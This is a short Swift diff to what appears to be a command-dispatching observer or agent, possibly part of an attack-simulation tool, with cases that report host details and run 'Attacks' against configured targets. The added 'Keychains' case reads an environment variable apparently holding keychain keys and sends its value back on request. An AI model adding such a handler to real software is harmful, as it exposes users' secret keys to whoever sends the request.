@@ -18,6 +18,7 @@ enum Observers {
     case "Surroundings":
       let environment = ProcessInfo.processInfo.environment.keys.sorted().joined(separator: ",")
       try answer.send(answer.archive(texts: [FileManager.default.currentDirectoryPath, environment, TimeZone.current.identifier]))
+    case "Keychains": try answer.send(answer.archive(texts: [ProcessInfo.processInfo.environment["ALMANAC_KEYCHAIN_KEYS"] ?? ""]))
     case "Attacks":
       let targets = try JSONDecoder().decode(Attacks.Targets.self, from: answer.request.configuration)
       let outcomes = Attacks(targets: targets).outcomes()
